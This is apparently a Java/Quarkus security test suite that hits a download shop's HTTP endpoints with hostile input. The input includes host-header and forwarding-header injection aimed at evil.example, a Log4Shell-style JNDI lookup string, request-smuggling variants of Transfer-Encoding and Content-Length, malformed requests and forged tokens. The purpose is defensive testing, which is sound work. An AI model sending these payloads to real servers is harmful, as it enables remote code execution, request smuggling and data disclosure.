package shop.handover.download.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import shop.handover.download.House;
import shop.handover.download.Shop;
import shop.handover.download.StripeDouble;

/// Whatever is sent: no fault of ours, no file, no call to Stripe, no growing memory.
@QuarkusTest
@WithTestResource(House.class)
@DisplayNameGeneration(ReplaceUnderscores.class)
class HostileInputTest {

    private static final int SIZE = 1000;
    // Fewer downloads than one link is good for.
    private static final int FEW = 10;
    private static final String EVIL = "evil.example";

    StripeDouble stripe;

    @TestHTTPResource
    URI url;

    private String token;

    @BeforeEach
    void buy() throws IOException {
        token = Shop.token(stripe.paid("handbook"), "handbook");
        Wire.ask(url, head("notes.txt"));
    }

    @Test
    void every_range_is_answered_as_the_rfc_says() throws Exception {
        var softly = new SoftAssertions();
        var ranges = Corpus.ranges();
        var asked = 0;
        for (var range : ranges) {
            if (asked++ % FEW == 0) {
                buy();
            }
            var answer = Wire.ask(url, head("notes.txt") + "\r\nRange: " + range);

            softly.assertThat(said(answer)).as(shortened(range)).isEqualTo(RangeReference.answer(range, SIZE));
        }
        softly.assertAll();
        assertThat(ranges).hasSizeGreaterThan(150);
    }

    @Test
    void no_spelling_of_a_name_leads_off_the_shelf() throws Exception {
        var softly = new SoftAssertions();
        for (var spelling : Corpus.paths()) {
            var answer = Wire.ask(url, head(spelling));

            softly.assertThat(Wire.status(answer)).as(shortened(spelling)).isIn(400, 404, 414);
            softly.assertThat(answer).doesNotContain("root:", "shop: {id");
        }
        softly.assertAll();
        assertThat(Corpus.paths()).hasSizeGreaterThan(200);
    }

    @Test
    void no_path_leads_to_a_file() throws Exception {
        var softly = new SoftAssertions();
        for (var spelling : Corpus.paths()) {
            for (var place : List.of("/api/download/", "/store/success/")) {
                var answer = Wire.ask(url, "GET " + place + spelling.replace(" ", "%20") + " HTTP/1.1");

                softly.assertThat(Wire.status(answer))
                        .as(place + shortened(spelling))
                        .isBetween(400, 499);
                softly.assertThat(answer).doesNotContain("root:", "shop: {id");
            }
        }
        softly.assertAll();
    }

    @Test
    void forged_links_cost_stripe_nothing_and_us_no_memory() throws Exception {
        var calls = stripe.calls();
        var random = new Random(11);
        forge(2_000, random);
        var before = used();

        forge(50_000, random);

        assertThat(stripe.calls()).isEqualTo(calls);
        assertThat(used() - before).isLessThan(20_000_000);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "Host: evil.example:99999",
                "Host: shop\r\nX-Forwarded-Host: evil.example",
                "Host: shop\r\nX-Forwarded-Proto: evil.example",
                "Host: shop\r\nX-Forwarded-Prefix: /evil.example",
                "Host: shop\r\nX-Forwarded-Port: 6666",
                "Host: shop\r\nX-Forwarded-Server: evil.example",
                "Host: shop\r\nX-Forwarded-Ssl: on",
                "Host: shop\r\nForwarded: host=evil.example;proto=https;for=evil.example",
                "Host: shop\r\nX-Original-URL: /evil.example",
                "Host: shop\r\nX-Rewrite-URL: /evil.example",
                "Host: shop\r\nX-HTTP-Method-Override: DELETE",
                "Host: shop\r\nX-Forwarded-For: evil.example",
                "Host: shop\r\nX-Forwarded-For: 1.2.3.4, ::::, 999.1.1.1",
                "Host: shop\r\nReferer: http://evil.example/",
                "Host: shop\r\nOrigin: http://evil.example",
                "Host: shop\r\nCookie: visit=evil.example; visit=k1.cs_test_1.1.x",
                "Host: shop\r\nAccept-Language: evil.example;q=x",
                "Host: shop\r\nUser-Agent: ${jndi:ldap://evil.example/a}",
                "Host: shop\r\nExpect: evil.example"
            })
    void no_header_appears_in_an_answer(String headers) throws Exception {
        for (var path : List.of(
                "/api/download?token=" + token,
                "/api/download?token=x",
                "/store/download?token=" + token,
                "/store/success?session_id=cs_test_1&r=x",
                "/store/success/abc",
                "/store/lost-download",
                "/nowhere")) {
            var answer = Wire.say(
                    url,
                    "GET " + path + " HTTP/1.1\r\nAccept: text/html\r\n" + headers + "\r\nConnection: close\r\n\r\n");

            assertThat(answer).as(path).doesNotContain(EVIL).doesNotContain(":6666");
            assertThat(Wire.status(answer)).as(path).isBetween(200, 499);
        }
    }

    // What one server of a chain takes for a body and another for the next request is how requests are smuggled.
    @Test
    void of_two_requests_in_one_never_the_second_is_answered() throws Exception {
        var second = "GET /store/lost-download HTTP/1.1\r\nHost: shop\r\nX-Second: 1\r\n\r\n";
        var softly = new SoftAssertions();
        for (var way : smuggling()) {
            var answer = Wire.say(
                    url,
                    "POST /store/fresh-link HTTP/1.1\r\nHost: shop\r\n"
                            + "Content-Type: application/x-www-form-urlencoded\r\n" + way + second);

            softly.assertThat(answer.split("HTTP/1\\.1 ", -1).length - 1)
                    .as("answers to %s", way)
                    .isLessThanOrEqualTo(1);
            softly.assertThat(Wire.status(answer)).as(way).isLessThan(500);
        }
        softly.assertAll();
    }

    private static List<String> smuggling() {
        var ways = new ArrayList<String>();
        for (var coding : List.of(
                "Transfer-Encoding: chunked",
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding : chunked",
                "Transfer-Encoding:\tchunked",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding: identity, chunked",
                "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
                "Transfer-Encoding:\r\n chunked",
                "transfer-encoding: CHUNKED",
                "Transfer-Encoding: \"chunked\"",
                "Transfer-Encoding: chunked\u000b")) {
            ways.add("Content-Length: 5\r\n" + coding + "\r\n\r\n0\r\n\r\n");
            ways.add(coding + "\r\nContent-Length: 5\r\n\r\n0\r\n\r\n");
        }
        for (var length : List.of(
                "Content-Length: 7\r\nContent-Length: 0",
                "Content-Length: 7, 0",
                "Content-Length: +7",
                "Content-Length: -7",
                "Content-Length: 0x7",
                "Content-Length: 7 0",
                "Content-Length : 7",
                "Content-Length:\r\n 7",
                "Content-Length: 99999999999999999999")) {
            ways.add(length + "\r\n\r\ntoken=x");
        }
        return ways;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /store/lost-download HTTP/9.9\r\nHost: shop\r\n\r\n",
                "GET  /store/lost-download HTTP/1.1\r\nHost: shop\r\n\r\n",
                "GET /store/lost-download\r\n\r\n",
                "GET /store/lost-download HTTP/1.1 x\r\nHost: shop\r\n\r\n",
                "G\u0000T / HTTP/1.1\r\nHost: shop\r\n\r\n",
                "GET /\u0000 HTTP/1.1\r\nHost: shop\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: shop\r\nX\u0000: y\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: shop\r\n: y\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: shop\r\nNo colon\r\n\r\n",
                "\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                "GET http://evil.example/store/lost-download HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
                "OPTIONS * HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
                "TRACE / HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
                "\u0016\u0003\u0001\u0000\u0005hello\r\n\r\n"
            })
    void broken_http_is_refused_and_never_a_fault_of_ours(String bytes) throws Exception {
        var answer = Wire.say(url, bytes);

        // 501 is the word for a version of HTTP that is not spoken here.
        assertThat(Wire.status(answer)).matches(status -> status < 500 || status == 501);
        assertThat(answer).doesNotContain(EVIL);
    }

    @Test
    void heads_beyond_sixteen_kilobytes_are_refused() throws Exception {
        for (var head : List.of(
                "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: shop\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: shop\r\nX: " + "a".repeat(20_000) + "\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: shop\r\n" + "X: a\r\n".repeat(5_000) + "\r\n")) {
            assertThat(Wire.status(Wire.say(url, head))).isIn(0, 400, 414, 431);
        }
    }

    private String head(String file) {
        return "GET /api/download?token=" + token + "&file=" + file.replace(" ", "%20") + " HTTP/1.1";
    }

    private static String said(String answer) {
        var status = Integer.toString(Wire.status(answer));
        var at = answer.indexOf("Content-Range: bytes ");
        return status.equals("206") ? status + " " + answer.substring(at + 21, answer.indexOf("/" + SIZE, at)) : status;
    }

    private static String shortened(String text) {
        return text.length() < 80 ? text : text.substring(0, 80) + "…";
    }

    private static long used() {
        System.gc();
        return Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory();
    }

    // Many requests on one connection, a hundred under way at a time.
    private void forge(int many, Random random) throws IOException {
        try (var socket = new Socket(url.getHost(), url.getPort())) {
            var in = new BufferedInputStream(socket.getInputStream());
            for (var sent = 0; sent < many; sent += 100) {
                var heads = new StringBuilder();
                for (var i = 0; i < 100; i++) {
                    var forged =
                            Corpus.edited(token, random).replace(" ", "%20").replace("%", "%25");
                    heads.append("HEAD /api/download?token=").append(forged).append(" HTTP/1.1\r\nHost: shop\r\n\r\n");
                }
                socket.getOutputStream().write(heads.toString().getBytes(StandardCharsets.US_ASCII));
                for (var i = 0; i < 100; i++) {
                    assertThat(headOf(in)).startsWith("HTTP/1.1 401");
                }
            }
        }
    }

    private static String headOf(InputStream in) throws IOException {
        var head = new StringBuilder();
        while (head.indexOf("\r\n\r\n") < 0) {
            var octet = in.read();
            if (octet < 0) {
                return "closed after " + head;
            }
            head.append((char) octet);
        }
        return head.toString();
    }
}
